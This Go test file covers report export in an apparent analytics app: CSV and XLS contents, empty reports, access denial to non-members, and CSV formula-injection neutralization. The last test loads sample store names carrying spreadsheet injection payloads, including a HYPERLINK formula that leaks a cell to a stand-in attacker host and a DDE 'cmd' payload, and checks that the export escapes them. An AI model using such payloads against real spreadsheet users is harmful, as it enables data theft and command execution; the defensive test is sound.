package app_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/heraldhq/herald/app/apptest"
)

func TestExportExecutedReport(t *testing.T) {
	gate.Parallel(t)
	b, r := newShopReports(t, 30, 2000)
	ctx := context.Background()
	def := r.create(jsonString(map[string]any{"reportDefinition": map[string]any{"meta": map[string]any{"title": "Revenue by region"},
		"content": gridDef([]any{gridAttr(r.uris["label.regions.name"])}, []any{"metricGroup"}, []string{r.revenue, r.orders})}}))
	res, err := b.Admin.Execute(ctx, def)
	if err != nil {
		t.Fatal(err)
	}
	want := map[string][2]float64{}
	for k, a := range r.s.by(nil, func(o shopOrder) string { return regionNames[o.region] }) {
		want[k] = [2]float64{float64(a.cents) / 100, float64(a.n)}
	}

	t.Run("CSV", func(t *testing.T) {
		f, err := b.Admin.Export(ctx, res.Meta.URI, "csv")
		if err != nil {
			t.Fatal(err)
		}
		if f.Name != "Revenue by region.csv" || !strings.HasPrefix(f.ContentType, "text/csv") {
			t.Errorf("file %q of type %q", f.Name, f.ContentType)
		}
		records, err := csv.NewReader(bytes.NewReader(f.Data)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if strings.Join(records[0], ",") != "Region,Revenue,Orders" {
			t.Fatalf("header %q", records[0])
		}
		checkRows(t, records[1:], want)
	})

	t.Run("XLS", func(t *testing.T) {
		f, err := b.Admin.Export(ctx, res.Meta.URI, "XLS")
		if err != nil {
			t.Fatal(err)
		}
		checkRows(t, sheetRows(t, f.Data), want)
	})

	t.Run("an empty report is 204", func(t *testing.T) {
		empty := r.run(r.content(gridDef([]any{gridAttr(r.uris["label.regions.name"])}, []any{"metricGroup"}, []string{r.revenue},
			"["+r.uris["label.regions.name"]+`] = "Nowhere"`)))
		if empty != nil {
			t.Fatal("expected an empty result")
		}
		res := r.execute(r.content(gridDef([]any{gridAttr(r.uris["label.regions.name"])}, []any{"metricGroup"}, []string{r.revenue},
			"["+r.uris["label.regions.name"]+`] = "Nowhere"`)))
		uri := dig(res.json(t), "reportResult2", "meta", "uri").(string)
		f, err := b.Admin.Export(ctx, uri, "CSV")
		if err != nil || f.Data != nil {
			t.Fatalf("export of an empty report: %v, %d bytes", err, len(f.Data))
		}
	})

	t.Run("a non-member gets 404", func(t *testing.T) {
		outsider, _ := b.NewUser(t, "nosy@x.io")
		_, err := outsider.Export(ctx, res.Meta.URI, "CSV")
		if err == nil || !strings.Contains(err.Error(), "404") {
			t.Fatalf("err = %v, want a 404", err)
		}
		raw := newBrowser(t, b.URL, "ua-nosy")
		raw.loginWithToken("nosy@x.io", "S3cret-pass")
		wantStatus(t, raw.do("POST", "/svc/exporter/executor", jsonString(map[string]any{"result_req": map[string]any{"report": res.Meta.URI, "format": "CSV"}})), 404)
		wantStatus(t, raw.do("GET", res.Content.DataResult, ""), 404)
	})
}

// sheetRows returns the data rows of a workbook's sheet: those after the header row.
func sheetRows(t *testing.T, data []byte) [][]string {
	t.Helper()
	book, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer book.Close()
	all, err := book.GetRows(book.GetSheetList()[0], excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	for i, row := range all {
		if len(row) > 0 && row[0] == "Region" {
			return all[i+1:]
		}
	}
	t.Fatalf("no header row in %q", all)
	return nil
}

// checkRows checks rows of region, revenue and orders against want.
func checkRows(t *testing.T, rows [][]string, want map[string][2]float64) {
	t.Helper()
	if len(rows) != len(want) {
		t.Fatalf("%d rows, want %d: %q", len(rows), len(want), rows)
	}
	for _, row := range rows {
		w, ok := want[row[0]]
		if !ok || len(row) != 3 {
			t.Errorf("unexpected row %q", row)
			continue
		}
		for i, cell := range row[1:] {
			v, err := strconv.ParseFloat(cell, 64)
			if err != nil || !near(v, w[i]) {
				t.Errorf("%s column %d = %q, want %v", row[0], i+1, cell, w[i])
			}
		}
	}
}

// TestCSVExportNeutralizesFormulas loads store names that a spreadsheet would run as
// formulas and finds them quoted in the CSV export, the numbers left as numbers.
func TestCSVExportNeutralizesFormulas(t *testing.T) {
	gate.Parallel(t)
	b := apptest.Start(t)
	admin := newBrowser(t, b.URL, "ua")
	admin.loginWithToken(b.Config.AdminLogin, apptest.AdminPassword)
	m := newMD(t, b, admin)
	wantStatus(t, m.manage(salesMAQL), 200)
	names := map[string]string{ // as loaded → as exported
		"s1": `=HYPERLINK("http://evil.example/?"&A1,"Click")`, "s2": "+cmd|' /C calc'!A0", "s3": "@SUM(1+1)",
		"s4": "-2+3", "s5": "\tTabbed", "s6": "-5", "s7": "Plain",
	}
	var stores, sales strings.Builder
	sw := csv.NewWriter(&stores)
	_ = sw.Write([]string{"id", "nm_name", "nm_city"})
	sales.WriteString("attr.sales.id,fact.sales.amount,attr.stores.id,sold_on.date\n")
	i := 0
	for id, name := range names {
		i++
		_ = sw.Write([]string{id, name, "Brno"})
		fmt.Fprintf(&sales, "%d,-%d.5,%s,2024-01-31\n", i, i, id)
	}
	sw.Flush()
	wantStatus(t, m.load("dataset.stores", "full", stores.String()), 200)
	wantStatus(t, m.load("dataset.sales", "full", sales.String()), 200)
	uris := m.uris("label.stores.name")
	metric := m.create(metricJSON("=Total", "SELECT SUM({fact.sales.amount})"))
	def := m.create(jsonString(map[string]any{"reportDefinition": map[string]any{"meta": map[string]any{"title": "Stores"},
		"content": gridDef([]any{gridAttr(uris["label.stores.name"])}, []any{"metricGroup"}, []string{metric})}}))
	ctx := context.Background()
	res, err := b.Admin.Execute(ctx, def)
	if err != nil {
		t.Fatal(err)
	}
	f, err := b.Admin.Export(ctx, res.Meta.URI, "csv")
	if err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(bytes.NewReader(f.Data)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if records[0][1] != "'=Total" {
		t.Errorf("metric title cell %q, want it neutralized", records[0][1])
	}
	got := map[string]string{}
	for _, r := range records[1:] {
		got[r[0]] = r[1]
		if _, err := strconv.ParseFloat(r[1], 64); err != nil || !strings.HasPrefix(r[1], "-") {
			t.Errorf("number cell %q of %q is not a plain negative number", r[1], r[0])
		}
	}
	for _, name := range names {
		want := name
		if name != "-5" && name != "Plain" {
			want = "'" + name
		}
		if _, ok := got[want]; !ok {
			t.Errorf("no row %q; rows %q", want, records[1:])
		}
	}
}
